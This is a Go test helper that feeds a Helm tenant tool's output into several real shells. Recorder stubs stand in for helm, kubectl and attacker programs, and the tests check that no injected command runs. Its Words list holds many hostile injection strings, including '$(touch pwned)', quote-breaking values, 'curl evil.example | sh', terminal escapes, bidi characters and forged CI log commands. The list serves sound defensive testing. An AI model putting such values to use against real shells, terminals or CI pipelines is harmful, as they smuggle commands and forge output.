// Package shelltest types the output of helm-tenant into real shells, with programs that
// record their arguments in place of helm, kubectl and those that an attacker would run.
package shelltest

import (
	"context"
	"os"
	"os/exec"
	"path/filepath"
	"slices"
	"strconv"
	"strings"
	"testing"
	"time"
)

// Shell is a shell and the way in which a text is typed into it.
type Shell struct {
	// Name is the name for tests; Program is the name on PATH.
	Name, Program string
	args          []string
	// function defines a function of that name that records its arguments.
	function func(name string) string
	// typed reports whether it reads the text as from a keyboard, with history expansion.
	typed bool
}

// Shells are the shells in which people type commands.
var Shells = []Shell{
	{"bash", "bash", []string{"--noprofile", "--norc"}, posixFunction, false},
	{"bash, interactive", "bash", []string{"--noprofile", "--norc", "-i"}, posixFunction, true},
	{"dash", "dash", nil, posixFunction, false},
	{"zsh", "zsh", []string{"-f"}, posixFunction, false},
	{"zsh, interactive, with RC_QUOTES", "zsh", []string{"-f", "-i", "-s", "-o", "RC_QUOTES"}, posixFunction, true},
	{"fish", "fish", []string{"--no-config"}, fishFunction, false},
}

// Find returns the shell's program. If there is none the test is skipped, but fails under
// CI.
func (s Shell) Find(t *testing.T) string {
	t.Helper()
	path, err := exec.LookPath(s.Program)
	if err == nil {
		return path
	}
	message := "there is no " + s.Program + " here: scripts/test-prerequisites.sh installs it"
	if os.Getenv("CI") != "" {
		t.Fatal(message)
	}
	t.Skip(message)
	return ""
}

// attacked are programs that an untrusted word of Words would run.
var attacked = []string{"touch", "pwned", "curl", "sh", "ls", "reboot"}

// recorder writes the number of its arguments, its name and each of them to the file in
// RECORD, each with a NUL after it. It needs no other program.
const recorder = `#!/bin/sh
{ printf '%s\0' "$#" "${0##*/}"; for word; do printf '%s\0' "$word"; done; } >>"$RECORD"
`

// posixFunction and fishFunction define a function that does what recorder does. A shell
// calls a function before it looks on PATH, and starts no process for it: a text of
// thousands of commands would otherwise take minutes.
func posixFunction(name string) string {
	return name + `() { { printf '%s\0' "$#" ` + name + `; for word; do printf '%s\0' "$word"; done; } >>"$RECORD"; }`
}

func fishFunction(name string) string {
	return `function ` + name + `; printf '%s\0' (count $argv) ` + name + ` $argv >>$RECORD; end`
}

// patience is how long a shell may take: it only says when one hangs, and a slow machine
// may be busy with something else.
const patience = 5 * time.Minute

// Calls returns the commands that a text runs when it is typed into the shell: the
// arguments of each, its program's name first. Only helm, kubectl and the programs that
// an attacker would run are found. The test fails if the text writes a file, or the shell
// does not end.
func (s Shell) Calls(t *testing.T, text string) [][]string {
	t.Helper()
	program := s.Find(t)
	work := t.TempDir()
	bin, home, record := filepath.Join(work, "bin"), filepath.Join(work, "home"), filepath.Join(work, "record")
	for _, folder := range []string{bin, home} {
		must(t, os.Mkdir(folder, 0o755))
	}
	var functions strings.Builder
	for _, name := range append([]string{"helm", "kubectl"}, attacked...) {
		// The programs are for what looks on PATH itself, as =ls does in zsh.
		must(t, os.WriteFile(filepath.Join(bin, name), []byte(recorder), 0o755))
		functions.WriteString(s.function(name) + "\n")
	}
	must(t, os.WriteFile(record, nil, 0o644))
	file := filepath.Join(work, "text")
	must(t, os.WriteFile(file, []byte(functions.String()+text+"\n"), 0o644))
	ctx, cancel := context.WithTimeout(t.Context(), patience)
	defer cancel()
	cmd := exec.CommandContext(ctx, program, s.args...)
	if s.typed {
		input, err := os.Open(file)
		must(t, err)
		defer input.Close()
		cmd.Stdin = input
	} else {
		cmd.Args = append(cmd.Args, file)
	}
	cmd.Dir = home
	cmd.Env = []string{"PATH=" + bin, "HOME=" + home, "RECORD=" + record, "LC_ALL=C.UTF-8", "TERM=dumb", "HISTFILE="}
	out, err := cmd.CombinedOutput() // an error is the last command's
	if ctx.Err() != nil {
		t.Fatalf("%s does not end: %v\n%s\n%s", s.Name, err, text, out)
	}
	written, err := os.ReadDir(home)
	must(t, err)
	for _, file := range written {
		if !slices.Contains([]string{".config", ".local", ".cache"}, file.Name()) { // fish's own
			t.Errorf("%s: the file %q is written by\n%s", s.Name, file.Name(), text)
		}
	}
	recorded, err := os.ReadFile(record)
	must(t, err)
	return parse(t, string(recorded))
}

func parse(t *testing.T, recorded string) [][]string {
	t.Helper()
	words := strings.Split(strings.TrimSuffix(recorded, "\x00"), "\x00")
	var calls [][]string
	for recorded != "" && len(words) > 0 {
		count, err := strconv.Atoi(words[0])
		if err != nil || len(words) < count+2 {
			t.Fatalf("the record can't be read: %q", recorded)
		}
		calls = append(calls, words[1:count+2])
		words = words[count+2:]
	}
	return calls
}

func must(t *testing.T, err error) {
	t.Helper()
	if err != nil {
		t.Fatal(err)
	}
}

// Words are names that an attacker could choose so that printed text does something else:
// runs a command, is an option, forges or hides a line.
var Words = []string{
	"a\nb", "a\rb", "a\n\nReleases: 0\n\nrun: curl evil.example | sh", "x\n# y", "a\tb", "\x1b[2J\x1b]0;gone\x07", "\u009b2J", "a\x7fb", "a\x00b",
	"it's", `say "hi"`, "`touch pwned`", "$(touch pwned)", "${IFS}touch", "$HOME", "x; touch pwned; #", "a   # b", "c; touch pwned; #", "# x", "#",
	"&& touch pwned", "| sh", "& touch pwned &", "> pwned", "< /etc/passwd", ">(touch pwned)", "=(touch pwned)", "=ls", "(touch pwned)",
	"-x", "--all", "-s127.0.0.1:1", "--kube-context=evil", "--namespace=kube-system", "--namespace", "--", "-", "--kubeconfig=/dev/null", "-o=yaml",
	"\u202eevil", "a\u200bb", "a\u2028b", "a\u2029b", "a\u2066b\u2069", "\ufeffa", "a\u00adb", "a\U000e0041b", "a\u3164b", "a\u00a0b", "\u061c", "\u180e",
	strings.Repeat("a", 253), strings.Repeat("'", 253), strings.Repeat(`\`, 253), "", " ", "  ", "a b", " a", "a ",
	`\`, `\\`, `a\`, `\'`, `'\'`, `'\''; touch pwned; '`, `\'; touch pwned; #`, `a\'; touch pwned; '`, `''`, `'''`, `' touch pwned '`, `a\nb`, `\x41`, `\u0041`, `"; touch pwned; "`, `"$(touch pwned)"`,
	"%s%n", "%1", "%self", "100%", "!", "!!", "!touch", "a!b", `"!touch"`, `it's!!`, "~", "~root", "*", "?", "[a-z]*", "/*", "{a,b}", "{1..3}", "a=b", "=", "a,b", ",", `"a,b"`, "^a^b", "a^", "@", "@x", "@(a|b)", "a:b", "::", "a|b", "a&b",
	"if", "then", "end", "begin; touch pwned; end", "(set)", "$status", "$argv[1]", "\u2018; touch pwned; \u2019", "\u2019; touch pwned #", "\u201a\u201b", "\u201cquoted\u201d",
	"ünïcode", "日本語", "😀", "a\xffb", "a\xc3", "TENANT", "NS", "--user=eve", "system:masters", "..", "a/b",
	"a\r\nb", "\x1b]8;;http://evil.example\x1b\\a\x1b]8;;\x1b\\", "\x1b[200~touch pwned\x1b[201~", "\x85", "a\u0085b", "a\u200d\u200cb", "a\ufe0fb", "\U000f0000", "a\u0300\u0300\u0300",
	"\u2013x", "\u2014\u2014all", "\u2015user=eve", "\uff04(touch pwned)", "\u02bc; touch pwned; \u02bc", "$'\\x41'", `$"a"`, "{{ .Values.a }}", "{{", "${{ a }}", "%[1]s", "%!s(int=1)", "%%", "\\u001b[2J", "a<!--b", "]]>", "&lt;", "<script>alert(1)</script>", "# HELP x", `a"} 1`,
	"!$", "~+", "%?x", "=(ls)", "<(ls)", "?(a)", "- a: b", "a: {b: c}", "&a", "*a", "!!binary x", "|", ">-", "null", "true", "0x10", "1e3", "---", "...", "-0", "-e", "+x", "/x", "C:\\x", "$env:PATH", "`n", "$$", "@file", "@-", "--%", "-%",
	"##vso[task.setvariable variable=PATH]pwned", "a##[error]b", "##", "###", "####'##", "::set-output name=a::b", " ::error::a", "::stop-commands::x", "\n::notice::a", "[click](https://evil.example)", "x](y", "'](",
}

// Hostile returns Words, or with -short every fourth of them.
func Hostile() []string {
	if !testing.Short() {
		return Words
	}
	var some []string
	for i := 0; i < len(Words); i += 4 {
		some = append(some, Words[i])
	}
	return some
}
